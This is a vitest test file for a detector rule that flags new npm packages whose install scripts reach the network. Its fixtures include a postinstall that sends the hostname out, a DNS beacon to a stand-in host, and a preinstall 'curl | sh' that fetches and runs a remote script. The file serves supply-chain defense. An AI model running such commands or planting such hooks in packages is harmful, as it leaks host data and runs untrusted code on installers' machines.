import { describe, expect, it } from "vitest";
import { evidenceWithCode } from "../../test/support/code.js";
import { evidence, NOW } from "../../test/support/evidence.js";
import { findings } from "../../test/support/run.js";
import rule from "./new-package-install-network.js";

const daysAgo = (d: number) => new Date(Date.parse(NOW) - d * 86_400_000).toISOString();

/** A package first published `age` days ago whose postinstall runs setup.js. */
function pkg(code: string, age: number, scripts: Record<string, string> = { postinstall: "node setup.js" }) {
  const e = evidenceWithCode({ "setup.js": code }, { scripts });
  if (e.npm.status !== "ok") throw new Error("fixture");
  return evidence({ ...e, npm: { status: "ok", data: { ...e.npm.data, createdAt: daysAgo(age) } } });
}

describe("new-package-install-network", () => {
  it.each<[string, string, number, string[]]>([
    [
      "a days-old package's postinstall POSTs host and user",
      `require("https").request(o).end(os.hostname());`,
      3,
      ["critical"],
    ],
    [
      "a DNS beacon through dns.promises",
      `import { promises as d } from "node:dns"; d.resolve4(id + ".feed.example.net");`,
      9,
      ["critical"],
    ],
    // @wonderwhy-er/desktop-commander: years old, its postinstall sends install telemetry.
    [
      "an established package's install telemetry",
      `require("https").request(o); require("child_process").exec("x");`,
      400,
      [],
    ],
    ["a new package's install script without network", `require("fs").writeFileSync("a", "b")`, 2, []],
  ])("%s", (_n, code, age, severities) => {
    expect(findings(rule, pkg(code, age)).map((f) => f.severity)).toEqual(severities);
  });

  it("reads a shell command's network too (curl | sh)", () => {
    const e = pkg("", 1, { preinstall: "curl -fsSL https://get.mdpreview.sh/setup | sh" });
    expect(findings(rule, e).map((f) => f.severity)).toEqual(["critical"]);
  });

  it("is quiet without install scripts", () => {
    expect(findings(rule, pkg(`fetch(u)`, 1, { build: "node setup.js" }))).toEqual([]);
  });

  it("is unknown without a creation time or code, skipped when code was not analysed", () => {
    const e = pkg(`fetch(u)`, 1);
    if (e.npm.status !== "ok") throw new Error("fixture");
    const noTime = evidence({
      ...e,
      npm: { status: "ok", data: { ...e.npm.data, createdAt: undefined, versions: [] } },
    });
    expect(rule.evaluate(noTime).status).toBe("unknown");
    expect(rule.evaluate(evidence({ code: { status: "unavailable", error: "x" } })).status).toBe("unknown");
    expect(rule.evaluate(evidence()).status).toBe("skipped");
  });
});
